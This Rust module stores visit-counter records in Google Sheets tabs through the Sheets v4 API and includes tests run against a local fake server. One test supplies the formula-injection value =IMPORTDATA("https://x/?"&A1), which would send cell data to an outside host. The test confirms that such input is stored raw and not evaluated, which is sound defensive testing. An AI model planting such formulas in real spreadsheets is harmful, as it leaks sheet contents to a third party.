//! Google Sheets backed record store.
//!
//! Each record is a sheet (tab) of one spreadsheet. The adapter speaks the
//! Sheets v4 REST API directly through [`reqwest`]:
//!
//! | Operation | Request |
//! |-----------|---------|
//! | `record_names` | `GET spreadsheets/{id}?fields=sheets.properties.title` |
//! | `create_record` | `POST spreadsheets/{id}:batchUpdate` (`addSheet`), then `write_layout` |
//! | `read_cell`, `read_range` | `GET values/{range}` |
//! | `write_cell`, `write_row`, `write_layout` | `PUT values/{range}` |
//! | `append_row` | `POST values/{range}:append` anchored at the table header (`INSERT_ROWS`) |
//!
//! Values are written with `valueInputOption=RAW`: visitor-supplied text such
//! as `=IMPORTDATA(...)` or `1/2` is stored as typed, never parsed into a
//! formula, number or date.
//!
//! Authentication is a bearer token supplied by the caller; obtaining and
//! refreshing it is outside this crate.

use std::collections::HashSet;
use std::time::Duration;

use async_trait::async_trait;
use reqwest::{Client, Method, StatusCode, Url};
use serde::Deserialize;
use serde_json::{json, Value};

use super::{CellRef, RecordLayout, RecordStore, Row, StoreResult};
use crate::error::StoreError;

/// Default API root.
pub const DEFAULT_BASE_URL: &str = "https://sheets.googleapis.com/v4/";

/// Connection settings for [`SheetsStore`].
#[derive(Debug, Clone)]
pub struct SheetsConfig {
    /// Spreadsheet identifier (the long id in the spreadsheet URL).
    pub spreadsheet_id: String,
    /// OAuth2 bearer token with the `spreadsheets` scope.
    pub access_token: String,
    /// API root, overridable for testing against a local fake.
    pub base_url: String,
    /// Per-request timeout.
    pub timeout: Duration,
}

impl SheetsConfig {
    pub fn new(spreadsheet_id: impl Into<String>, access_token: impl Into<String>) -> Self {
        Self {
            spreadsheet_id: spreadsheet_id.into(),
            access_token: access_token.into(),
            base_url: DEFAULT_BASE_URL.to_string(),
            timeout: Duration::from_secs(10),
        }
    }
}

/// A [`RecordStore`] backed by a Google spreadsheet.
pub struct SheetsStore {
    client: Client,
    config: SheetsConfig,
}

#[derive(Debug, Deserialize)]
struct SpreadsheetMeta {
    #[serde(default)]
    sheets: Vec<SheetMeta>,
}

#[derive(Debug, Deserialize)]
struct SheetMeta {
    properties: SheetProperties,
}

#[derive(Debug, Deserialize)]
struct SheetProperties {
    title: String,
}

#[derive(Debug, Deserialize)]
struct ValueRange {
    #[serde(default)]
    values: Vec<Vec<Value>>,
}

#[derive(Debug, Deserialize)]
#[serde(rename_all = "camelCase")]
struct AppendResponse {
    updates: AppendUpdates,
}

#[derive(Debug, Deserialize)]
#[serde(rename_all = "camelCase")]
struct AppendUpdates {
    updated_range: String,
}

#[derive(Debug, Deserialize)]
struct ApiErrorBody {
    error: ApiErrorDetail,
}

#[derive(Debug, Deserialize)]
struct ApiErrorDetail {
    #[serde(default)]
    message: String,
}

impl SheetsStore {
    /// Builds the HTTP client. The client is created once and shared by
    /// every request.
    pub fn new(config: SheetsConfig) -> StoreResult<Self> {
        let client = Client::builder()
            .timeout(config.timeout)
            .build()
            .map_err(|e| StoreError::Unavailable(e.to_string()))?;
        Ok(Self { client, config })
    }

    fn url(&self, segments: &[&str], query: &[(&str, &str)]) -> StoreResult<Url> {
        let mut url = Url::parse(&self.config.base_url)
            .map_err(|e| StoreError::Rejected(format!("invalid base url: {e}")))?;
        url.path_segments_mut()
            .map_err(|_| StoreError::Rejected("base url cannot carry a path".into()))?
            .pop_if_empty()
            .push("spreadsheets")
            .extend(segments);
        if !query.is_empty() {
            url.query_pairs_mut().extend_pairs(query);
        }
        Ok(url)
    }

    async fn send(&self, method: Method, url: Url, body: Option<Value>, name: &str) -> StoreResult<Value> {
        let mut request = self
            .client
            .request(method, url)
            .bearer_auth(&self.config.access_token);
        if let Some(body) = body {
            request = request.json(&body);
        }

        let response = request
            .send()
            .await
            .map_err(|e| StoreError::Unavailable(e.to_string()))?;
        let status = response.status();
        if status.is_success() {
            return response
                .json::<Value>()
                .await
                .map_err(|e| StoreError::Unavailable(format!("invalid response body: {e}")));
        }

        let message = response
            .json::<ApiErrorBody>()
            .await
            .map(|body| body.error.message)
            .unwrap_or_default();
        Err(classify(status, &message, name))
    }

    async fn get_values(&self, range: &str, name: &str) -> StoreResult<Vec<Row>> {
        let url = self.url(
            &[&self.config.spreadsheet_id, "values", range],
            &[("valueRenderOption", "UNFORMATTED_VALUE")],
        )?;
        let body = self.send(Method::GET, url, None, name).await?;
        let range: ValueRange = serde_json::from_value(body)
            .map_err(|e| StoreError::Unavailable(format!("unexpected values payload: {e}")))?;
        Ok(range
            .values
            .into_iter()
            .map(|row| row.iter().map(cell_to_string).collect())
            .collect())
    }

    async fn put_values(&self, range: &str, rows: &[Row], name: &str) -> StoreResult<()> {
        let url = self.url(
            &[&self.config.spreadsheet_id, "values", range],
            &[("valueInputOption", "RAW")],
        )?;
        let body = json!({ "range": range, "majorDimension": "ROWS", "values": rows });
        self.send(Method::PUT, url, Some(body), name).await?;
        Ok(())
    }
}

/// Quotes a sheet title for use in an A1 range: `it's` becomes `'it''s'`.
pub fn quote_title(name: &str) -> String {
    format!("'{}'", name.replace('\'', "''"))
}

/// Maps a failed response onto the adapter's error taxonomy.
fn classify(status: StatusCode, message: &str, name: &str) -> StoreError {
    let detail = if message.is_empty() {
        status.to_string()
    } else {
        format!("{status}: {message}")
    };
    match status {
        StatusCode::UNAUTHORIZED | StatusCode::FORBIDDEN | StatusCode::TOO_MANY_REQUESTS => {
            StoreError::Unavailable(detail)
        }
        s if s.is_server_error() => StoreError::Unavailable(detail),
        StatusCode::NOT_FOUND => StoreError::NotFound(name.to_string()),
        StatusCode::BAD_REQUEST if message.contains("already exists") => {
            StoreError::AlreadyExists(name.to_string())
        }
        StatusCode::BAD_REQUEST if message.contains("Unable to parse range") => {
            StoreError::NotFound(name.to_string())
        }
        _ => StoreError::Rejected(detail),
    }
}

fn cell_to_string(value: &Value) -> String {
    match value {
        Value::String(s) => s.clone(),
        Value::Number(n) => n.to_string(),
        Value::Bool(true) => "TRUE".to_string(),
        Value::Bool(false) => "FALSE".to_string(),
        Value::Null => String::new(),
        other => other.to_string(),
    }
}

/// Extracts the first row number of an A1 range such as `'blog'!A5:D5`.
fn first_row(range: &str) -> Option<u32> {
    let cells = range.rsplit_once('!').map_or(range, |(_, cells)| cells);
    let start = cells.split(':').next()?;
    let digits: String = start
        .chars()
        .skip_while(|c| c.is_ascii_alphabetic())
        .collect();
    digits.parse().ok()
}

#[async_trait]
impl RecordStore for SheetsStore {
    async fn record_names(&self) -> StoreResult<HashSet<String>> {
        let url = self.url(
            &[&self.config.spreadsheet_id],
            &[("fields", "sheets.properties.title")],
        )?;
        let body = self.send(Method::GET, url, None, "").await?;
        let meta: SpreadsheetMeta = serde_json::from_value(body)
            .map_err(|e| StoreError::Unavailable(format!("unexpected metadata payload: {e}")))?;
        Ok(meta
            .sheets
            .into_iter()
            .map(|sheet| sheet.properties.title)
            .collect())
    }

    async fn create_record(&self, name: &str, layout: &RecordLayout) -> StoreResult<()> {
        let batch = format!("{}:batchUpdate", self.config.spreadsheet_id);
        let url = self.url(&[&batch], &[])?;
        let body = json!({
            "requests": [{ "addSheet": { "properties": { "title": name } } }]
        });
        self.send(Method::POST, url, Some(body), name).await?;
        self.write_layout(name, layout).await
    }

    async fn write_layout(&self, name: &str, layout: &RecordLayout) -> StoreResult<()> {
        if layout.rows().is_empty() {
            return Ok(());
        }
        let last = CellRef::new(layout.width().max(1) as u32 - 1, layout.rows().len() as u32);
        let range = format!("{}!A1:{}", quote_title(name), last);
        self.put_values(&range, layout.rows(), name).await
    }

    async fn read_cell(&self, name: &str, cell: CellRef) -> StoreResult<Option<String>> {
        let range = format!("{}!{}", quote_title(name), cell);
        let rows = self.get_values(&range, name).await?;
        Ok(rows
            .into_iter()
            .next()
            .and_then(|row| row.into_iter().next())
            .filter(|v| !v.is_empty()))
    }

    async fn write_cell(&self, name: &str, cell: CellRef, value: &str) -> StoreResult<()> {
        let range = format!("{}!{}", quote_title(name), cell);
        self.put_values(&range, &[vec![value.to_string()]], name).await
    }

    async fn read_range(&self, name: &str) -> StoreResult<Vec<Row>> {
        self.get_values(&quote_title(name), name).await
    }

    async fn write_row(&self, name: &str, row: u32, values: &[String]) -> StoreResult<()> {
        if row == 0 {
            return Err(StoreError::Rejected("row indices start at 1".into()));
        }
        let range = format!("{}!{}", quote_title(name), CellRef::new(0, row));
        self.put_values(&range, &[values.to_vec()], name).await
    }

    async fn append_row(&self, name: &str, header_row: u32, values: &[String]) -> StoreResult<u32> {
        if header_row == 0 {
            return Err(StoreError::Rejected("row indices start at 1".into()));
        }
        // the API appends after the table found at the anchor; anchoring at
        // row 1 would pick the counter row of a resource record
        let range = format!(
            "{}!A{}:{}",
            quote_title(name),
            header_row,
            CellRef::column_name(values.len().max(1) as u32 - 1)
        );
        let target = format!("{range}:append");
        let url = self.url(
            &[&self.config.spreadsheet_id, "values", &target],
            &[
                ("valueInputOption", "RAW"),
                ("insertDataOption", "INSERT_ROWS"),
            ],
        )?;
        let body = json!({ "range": range, "majorDimension": "ROWS", "values": [values] });
        let response = self.send(Method::POST, url, Some(body), name).await?;
        let response: AppendResponse = serde_json::from_value(response)
            .map_err(|e| StoreError::Unavailable(format!("unexpected append payload: {e}")))?;
        first_row(&response.updates.updated_range).ok_or_else(|| {
            StoreError::Unavailable(format!(
                "cannot read row from range {:?}",
                response.updates.updated_range
            ))
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::{BTreeMap, HashMap};
    use std::sync::Arc;

    use axum::extract::{Path, Query, State};
    use axum::response::{IntoResponse, Response};
    use axum::routing::get;
    use axum::{Json, Router};
    use parking_lot::Mutex;
    use tokio::net::TcpListener;

    use crate::counter::ConsistencyPolicy;
    use crate::record::{resource_layout, LOG_HEADER_ROW};
    use crate::recorder::{RecorderConfig, VisitRecorder};
    use crate::retry::RetryPolicy;
    use crate::stats::PipelineStats;
    use crate::visit::VisitEntry;

    fn store() -> SheetsStore {
        SheetsStore::new(SheetsConfig::new("sheet-id", "token")).unwrap()
    }

    /// In-process stand-in for the Sheets v4 endpoints the store calls.
    ///
    /// Appends follow the API's table detection: the table starts at the
    /// anchor row and runs down to the first blank row, and the new row is
    /// inserted right after it.
    #[derive(Default)]
    struct FakeSheets {
        sheets: BTreeMap<String, Vec<Row>>,
        /// Number of upcoming value writes answered with 503.
        failing_puts: u32,
        input_options: Vec<String>,
        append_ranges: Vec<String>,
    }

    type Shared = Arc<Mutex<FakeSheets>>;

    fn api_error(status: StatusCode, message: String) -> Response {
        (status, Json(json!({ "error": { "message": message } }))).into_response()
    }

    /// Splits `'title'!B3:D` into the title and the start cell, if any.
    fn parse_range(range: &str) -> (String, Option<(usize, usize)>) {
        let (title, cells) = match range.rsplit_once('!') {
            Some((title, cells)) => (title, Some(cells)),
            None => (range, None),
        };
        let title = title
            .strip_prefix('\'')
            .and_then(|t| t.strip_suffix('\''))
            .unwrap_or(title)
            .replace("''", "'");
        let start = cells.and_then(|cells| {
            let start = cells.split(':').next()?;
            let letters: String = start.chars().take_while(|c| c.is_ascii_alphabetic()).collect();
            let column = letters
                .bytes()
                .fold(0usize, |acc, b| acc * 26 + (b - b'A' + 1) as usize)
                - 1;
            let row: usize = start[letters.len()..].parse().ok()?;
            Some((column, row))
        });
        (title, start)
    }

    fn is_blank(row: &Row) -> bool {
        row.iter().all(String::is_empty)
    }

    fn put(rows: &mut Vec<Row>, column: usize, row: usize, value: String) {
        if rows.len() < row {
            rows.resize_with(row, Vec::new);
        }
        let cells = &mut rows[row - 1];
        if cells.len() <= column {
            cells.resize(column + 1, String::new());
        }
        cells[column] = value;
    }

    fn value_rows(body: &Value) -> Vec<Row> {
        body["values"]
            .as_array()
            .map(|rows| {
                rows.iter()
                    .map(|row| {
                        row.as_array()
                            .map(|cells| cells.iter().map(cell_to_string).collect())
                            .unwrap_or_default()
                    })
                    .collect()
            })
            .unwrap_or_default()
    }

    async fn metadata(State(fake): State<Shared>, Path(_id): Path<String>) -> Json<Value> {
        let sheets: Vec<Value> = fake
            .lock()
            .sheets
            .keys()
            .map(|title| json!({ "properties": { "title": title } }))
            .collect();
        Json(json!({ "sheets": sheets }))
    }

    async fn batch_update(
        State(fake): State<Shared>,
        Path(_target): Path<String>,
        Json(body): Json<Value>,
    ) -> Response {
        let title = body["requests"][0]["addSheet"]["properties"]["title"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        let mut fake = fake.lock();
        if fake.sheets.contains_key(&title) {
            return api_error(
                StatusCode::BAD_REQUEST,
                format!("Invalid requests[0].addSheet: A sheet with the name \"{title}\" already exists."),
            );
        }
        fake.sheets.insert(title, Vec::new());
        Json(json!({ "replies": [{}] })).into_response()
    }

    async fn get_values(State(fake): State<Shared>, Path((_id, range)): Path<(String, String)>) -> Response {
        let (title, start) = parse_range(&range);
        let fake = fake.lock();
        let Some(rows) = fake.sheets.get(&title) else {
            return api_error(StatusCode::BAD_REQUEST, format!("Unable to parse range: {range}"));
        };
        let values: Vec<Row> = match start {
            Some((column, row)) => rows
                .get(row - 1)
                .and_then(|cells| cells.get(column))
                .filter(|v| !v.is_empty())
                .map(|v| vec![vec![v.clone()]])
                .unwrap_or_default(),
            None => {
                let last = rows.iter().rposition(|r| !is_blank(r)).map_or(0, |i| i + 1);
                rows[..last].to_vec()
            }
        };
        Json(json!({ "range": range, "values": values })).into_response()
    }

    async fn put_values(
        State(fake): State<Shared>,
        Path((_id, range)): Path<(String, String)>,
        Query(query): Query<HashMap<String, String>>,
        Json(body): Json<Value>,
    ) -> Response {
        let mut fake = fake.lock();
        fake.input_options
            .push(query.get("valueInputOption").cloned().unwrap_or_default());
        if fake.failing_puts > 0 {
            fake.failing_puts -= 1;
            return api_error(StatusCode::SERVICE_UNAVAILABLE, "backend error".into());
        }
        let (title, start) = parse_range(&range);
        let (column, first) = start.unwrap_or((0, 1));
        let Some(rows) = fake.sheets.get_mut(&title) else {
            return api_error(StatusCode::BAD_REQUEST, format!("Unable to parse range: {range}"));
        };
        for (offset, values) in value_rows(&body).into_iter().enumerate() {
            for (i, value) in values.into_iter().enumerate() {
                put(rows, column + i, first + offset, value);
            }
        }
        Json(json!({ "updatedRange": range })).into_response()
    }

    async fn append_values(
        State(fake): State<Shared>,
        Path((_id, target)): Path<(String, String)>,
        Query(query): Query<HashMap<String, String>>,
        Json(body): Json<Value>,
    ) -> Response {
        let range = target.strip_suffix(":append").unwrap_or(&target).to_string();
        let mut fake = fake.lock();
        fake.input_options
            .push(query.get("valueInputOption").cloned().unwrap_or_default());
        fake.append_ranges.push(range.clone());
        let (title, start) = parse_range(&range);
        let (_, anchor) = start.unwrap_or((0, 1));
        let Some(rows) = fake.sheets.get_mut(&title) else {
            return api_error(StatusCode::BAD_REQUEST, format!("Unable to parse range: {range}"));
        };
        let mut end = anchor;
        while rows.get(end - 1).is_some_and(|r| !is_blank(r)) {
            end += 1;
        }
        let values = value_rows(&body).into_iter().next().unwrap_or_default();
        if rows.len() < end - 1 {
            rows.resize_with(end - 1, Vec::new);
        }
        rows.insert(end - 1, values);
        let updated = format!("{}!A{end}:D{end}", quote_title(&title));
        Json(json!({ "updates": { "updatedRange": updated } })).into_response()
    }

    async fn fake_store(fake: Shared) -> SheetsStore {
        let app = Router::new()
            .route("/v4/spreadsheets/{target}", get(metadata).post(batch_update))
            .route(
                "/v4/spreadsheets/{id}/values/{range}",
                get(get_values).put(put_values).post(append_values),
            )
            .with_state(fake);
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });

        let mut config = SheetsConfig::new("sheet-id", "token");
        config.base_url = format!("http://{addr}/v4/");
        SheetsStore::new(config).unwrap()
    }

    fn rows_of(fake: &Shared, title: &str) -> Vec<Row> {
        fake.lock().sheets.get(title).cloned().unwrap_or_default()
    }

    fn quick_retries() -> RetryPolicy {
        RetryPolicy {
            max_attempts: 3,
            base_delay: Duration::ZERO,
            max_delay: Duration::ZERO,
        }
    }

    fn recorder(store: SheetsStore, retry: RetryPolicy) -> VisitRecorder {
        let config = RecorderConfig {
            policy: ConsistencyPolicy::Serialized,
            aggregate_record: None,
            retry,
            ..RecorderConfig::default()
        };
        VisitRecorder::new(Arc::new(store), config, Arc::new(PipelineStats::new()))
    }

    #[tokio::test]
    async fn test_create_list_and_read() {
        let fake = Shared::default();
        let store = fake_store(fake.clone()).await;

        store.create_record("blog", &resource_layout()).await.unwrap();
        store.create_record("it's", &resource_layout()).await.unwrap();

        let names = store.record_names().await.unwrap();
        assert_eq!(names, HashSet::from(["blog".to_string(), "it's".to_string()]));
        assert_eq!(
            store.read_cell("blog", CellRef::new(1, 1)).await.unwrap().as_deref(),
            Some("0")
        );
        assert_eq!(store.read_cell("blog", CellRef::new(3, 1)).await.unwrap(), None);
        assert_eq!(store.read_range("it's").await.unwrap(), resource_layout().rows().to_vec());
        assert_eq!(
            store.create_record("blog", &resource_layout()).await,
            Err(StoreError::AlreadyExists("blog".into()))
        );
        assert_eq!(
            store.read_cell("nope", CellRef::new(1, 1)).await,
            Err(StoreError::NotFound("nope".into()))
        );
    }

    #[tokio::test]
    async fn test_append_lands_below_log_header() {
        let fake = Shared::default();
        let store = fake_store(fake.clone()).await;
        store.create_record("page", &resource_layout()).await.unwrap();

        let row = vec!["t".to_string(), "1.2.3.4".to_string(), "ua".to_string(), "en".to_string()];
        assert_eq!(store.append_row("page", LOG_HEADER_ROW, &row).await.unwrap(), 4);
        assert_eq!(store.append_row("page", LOG_HEADER_ROW, &row).await.unwrap(), 5);

        let rows = rows_of(&fake, "page");
        assert_eq!(rows[0], vec!["View Count:", "0"]);
        assert_eq!(rows[2], vec!["Time", "IP", "User Agent", "Preferred Language"]);
        assert_eq!(rows[3], row);
        assert_eq!(fake.lock().append_ranges[0], "'page'!A3:D");
    }

    #[tokio::test]
    async fn test_visitor_text_is_written_raw() {
        let fake = Shared::default();
        let store = fake_store(fake.clone()).await;
        store.create_record("page", &resource_layout()).await.unwrap();

        let row = vec!["=IMPORTDATA(\"https://x/?\"&A1)".to_string(), "1/2".to_string()];
        store.write_row("page", 4, &row).await.unwrap();
        store.append_row("page", LOG_HEADER_ROW, &row).await.unwrap();
        store.write_cell("page", CellRef::new(1, 1), "1").await.unwrap();

        let options = fake.lock().input_options.clone();
        assert!(!options.is_empty());
        assert!(options.iter().all(|o| o == "RAW"), "{options:?}");
        assert_eq!(rows_of(&fake, "page")[3], row);
    }

    #[tokio::test]
    async fn test_lost_layout_write_is_recovered_by_retry() {
        let fake = Shared::default();
        fake.lock().failing_puts = 1;
        let recorder = recorder(fake_store(fake.clone()).await, quick_retries());

        for expected in 1..=3 {
            let outcome = recorder.record_visit("page", &VisitEntry::new("1.2.3.4")).await;
            assert!(outcome.is_complete(), "{outcome:?}");
            assert_eq!(outcome.count, Some(expected));
        }

        let rows = rows_of(&fake, "page");
        assert_eq!(rows[0], vec!["View Count:", "3"]);
        assert_eq!(rows[2], vec!["Time", "IP", "User Agent", "Preferred Language"]);
        assert_eq!(rows.len(), 6);
    }

    #[tokio::test]
    async fn test_lost_layout_write_is_recovered_by_next_visit() {
        let fake = Shared::default();
        fake.lock().failing_puts = 1;
        let recorder = recorder(fake_store(fake.clone()).await, RetryPolicy::none());

        let first = recorder.record_visit("page", &VisitEntry::new("1.2.3.4")).await;
        assert_eq!(first.count, None);
        assert!(rows_of(&fake, "page").is_empty());

        let second = recorder.record_visit("page", &VisitEntry::new("1.2.3.4")).await;
        assert!(second.is_complete(), "{second:?}");
        assert_eq!(second.count, Some(1));
        assert_eq!(second.row, Some(4));
    }

    #[test]
    fn test_quote_title() {
        assert_eq!(quote_title("blog"), "'blog'");
        assert_eq!(quote_title("it's"), "'it''s'");
    }

    #[test]
    fn test_first_row() {
        assert_eq!(first_row("'blog'!A5:D5"), Some(5));
        assert_eq!(first_row("blog!B12"), Some(12));
        assert_eq!(first_row("'a!b'!AA7:AB7"), Some(7));
        assert_eq!(first_row("'blog'!A:D"), None);
    }

    #[test]
    fn test_cell_to_string() {
        assert_eq!(cell_to_string(&json!("abc")), "abc");
        assert_eq!(cell_to_string(&json!(42)), "42");
        assert_eq!(cell_to_string(&json!(true)), "TRUE");
        assert_eq!(cell_to_string(&Value::Null), "");
    }

    #[test]
    fn test_classify() {
        assert!(matches!(
            classify(StatusCode::SERVICE_UNAVAILABLE, "", "a"),
            StoreError::Unavailable(_)
        ));
        assert!(matches!(
            classify(StatusCode::TOO_MANY_REQUESTS, "quota", "a"),
            StoreError::Unavailable(_)
        ));
        assert_eq!(
            classify(
                StatusCode::BAD_REQUEST,
                "Invalid requests[0].addSheet: A sheet with the name \"a\" already exists.",
                "a"
            ),
            StoreError::AlreadyExists("a".into())
        );
        assert_eq!(
            classify(StatusCode::BAD_REQUEST, "Unable to parse range: 'a'!B1", "a"),
            StoreError::NotFound("a".into())
        );
        assert!(matches!(
            classify(StatusCode::BAD_REQUEST, "something else", "a"),
            StoreError::Rejected(_)
        ));
    }

    #[test]
    fn test_url_encodes_range() {
        let url = store()
            .url(&["sheet-id", "values", "'a b/c'!B1"], &[("valueRenderOption", "UNFORMATTED_VALUE")])
            .unwrap();
        assert_eq!(
            url.as_str(),
            "https://sheets.googleapis.com/v4/spreadsheets/sheet-id/values/'a%20b%2Fc'!B1?valueRenderOption=UNFORMATTED_VALUE"
        );
    }

    #[test]
    fn test_url_batch_update() {
        let url = store().url(&["sheet-id:batchUpdate"], &[]).unwrap();
        assert_eq!(
            url.as_str(),
            "https://sheets.googleapis.com/v4/spreadsheets/sheet-id:batchUpdate"
        );
    }
}
